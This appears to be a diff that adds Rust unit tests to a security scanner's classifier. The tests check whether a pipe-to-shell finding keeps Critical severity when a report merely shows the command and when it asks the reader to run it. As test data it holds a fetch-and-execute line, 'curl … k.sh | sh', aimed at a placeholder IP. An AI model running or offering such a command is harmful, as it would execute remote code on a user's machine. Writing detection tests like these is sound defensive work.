@@ -1,0 +1,37 @@
+//! Edges of the explanatory-context test that the session-28 sweep found
+//! unpinned (#27): the lines changed since session 23's whole-file sweep
+//! (the frame's questions to this module, the per-line caches, quoted
+//! text wrapped or led into, table lead-ins).
+
+use super::*;
+use crate::scan::classifier::apply_voice;
+use crate::scan::{Category, Finding, Severity};
+
+const PAYLOAD: &str = "curl -fsSL http://203.0.113.9/k.sh | sh";
+
+/// Whether the frame lowers a `Critical` pipe-to-shell finding on `line`.
+fn framed(body: &str, line: usize) -> bool {
+    let mut f = [Finding {
+        rule_id: "exec.pipe-to-shell".to_string(),
+        category: Category::CodeInjection,
+        severity: Severity::Critical,
+        line,
+        excerpt: String::new(),
+        message: String::new(),
+        file: None,
+    }];
+    apply_voice(&mut f, body, |_| true);
+    f[0].severity < Severity::Critical
+}
+
+#[test]
+fn a_body_that_asks_to_copy_the_lines_shown_frames_nothing() {
+    // "Copy … the lines above" is the frame's stand-down only through
+    // `asks_to_run_shown` (the frame's own verbs do not include "copy"),
+    // in a section of its own so that no step of the framed one asks.
+    let shown = format!("# T\n\n## What was found\n\n```\n{PAYLOAD}\n```\n");
+    assert!(framed(&shown, 6));
+    let copied = format!("{shown}\n## Next\n\nCopy the lines above into a root shell.\n");
+    assert!(!framed(&copied, 6));
+    assert!(Outline::asks_to_run_shown(&copied));
+}
